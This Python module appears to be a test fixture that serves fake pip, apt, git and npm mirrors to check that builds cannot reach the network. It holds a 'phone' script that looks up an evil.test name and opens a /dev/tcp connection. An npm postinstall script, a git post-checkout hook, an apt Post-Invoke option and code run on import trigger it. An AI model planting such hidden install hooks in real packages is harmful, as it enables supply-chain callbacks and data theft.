"""Mirrors of pip, apt, git and npm on the server of two hosts, and a build with each on the client.

A build takes one package, and runs its code. If TELEMETRY is set, this code asks a name and connects to an address that
the build does not need, and goes on when both are refused.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import shutil
import sys
import tarfile
import zipfile
from pathlib import Path

from live.namespaces import SENDER
from live.web_site import APT, APT_FOLDERS, make_site

_PHONE = f"""#!/bin/bash
[ -n "$TELEMETRY" ] || exit 0
getent ahostsv4 "$1.evil.test"
(: < /dev/tcp/{SENDER}/80)
exit 0
"""
_PIP = (
    f"{sys.executable} -m pip install -q --isolated --no-cache-dir --disable-pip-version-check --no-deps --target lib "
    "--root-user-action ignore --index-url http://pip.google.com/simple/ --trusted-host pip.google.com tiny"
)
_NPM = (
    "npm install --silent --registry http://npm.google.com/ --cache npm-cache --no-audit --no-fund "
    "--no-update-notifier tiny"
)
SCRIPTS = {
    "pip": f"{_PIP}\nPYTHONPATH=lib {sys.executable} -c 'import tiny'\nrm -r lib\n",
    "apt": f"""{APT_FOLDERS}
{APT} -o 'APT::Update::Post-Invoke::=$PHONE apt' update > apt.log
{APT} download hello >> apt.log 2>&1
cat hello_1_all.deb
rm -r hello_1_all.deb state cache
""",
    "git": "git clone -q --template=template http://git.google.com/repository clone\ncat clone/file\nrm -r clone\n",
    "npm": f"{_NPM}\nnode -e 'require(\"tiny\")'\nrm -r node_modules npm-cache package.json package-lock.json\n",
}
OUTPUTS = {"pip": "from pip\n", "apt": "a package\n", "git": "from git\n", "npm": "from npm\n"}
REFUSED_ADDRESS = SENDER


def builds() -> list[str]:
    """Return the names of the builds whose programs this host has."""
    return [name for name in SCRIPTS if name != "npm" or (shutil.which("npm") and shutil.which("node"))]


def script_of(names: list[str]) -> str:
    """Return a shell script of some builds, which ends at the first failure."""
    return "set -e\n" + "".join(SCRIPTS[name] for name in names)


def make_client(folder: Path) -> None:
    """Make the files of the client in a folder."""
    (folder / "sources.list").write_text("deb [trusted=yes] http://apt.google.com ./\n")
    phone = folder / "phone"
    phone.write_text(_PHONE)
    phone.chmod(0o755)
    hook = folder / "template" / "hooks" / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text('#!/bin/sh\n"$PHONE" git\n')
    hook.chmod(0o755)


def environment_of(folder: Path, **more: str) -> dict[str, str]:
    """Return the environment of a build in the folder of a client."""
    env = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    own = {"PHONE": str(folder / "phone"), "HOME": str(folder), "GIT_CONFIG_GLOBAL": "/dev/null", "SUDO_UID": ""}
    return {**env, **own, **more}


def make_mirrors(folder: Path) -> None:
    """Make the folder that the server serves under each name."""
    make_site(folder)
    wheel = "tiny-1-py3-none-any.whl"
    (folder / wheel).write_bytes(_wheel())
    index = folder / "simple" / "tiny"
    index.mkdir(parents=True)
    (index / "index.html").write_text(f'<a href="/{wheel}">{wheel}</a>\n')
    package = _npm_package()
    (folder / "tiny.tgz").write_bytes(package)
    digest = base64.b64encode(hashlib.sha512(package).digest()).decode()
    version = {
        "name": "tiny",
        "version": "1.0.0",
        "hasInstallScript": True,
        "dist": {"tarball": "http://npm.google.com/tiny.tgz", "integrity": f"sha512-{digest}"},
    }
    about = {"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    (folder / "tiny").write_text(json.dumps(about))


def _wheel() -> bytes:
    code = "import os, subprocess\nsubprocess.run([os.environ['PHONE'], 'pip'], stdout=2)\nprint('from pip')\n"
    files = {
        "tiny.py": code,
        "tiny-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tiny\nVersion: 1\n",
        "tiny-1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "tiny-1.dist-info/RECORD": "",
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return made.getvalue()


def _npm_package() -> bytes:
    about = {"name": "tiny", "version": "1.0.0", "scripts": {"postinstall": '"$PHONE" npm'}}
    files = {"package.json": json.dumps(about), "index.js": "console.log('from npm')\n"}
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return made.getvalue()
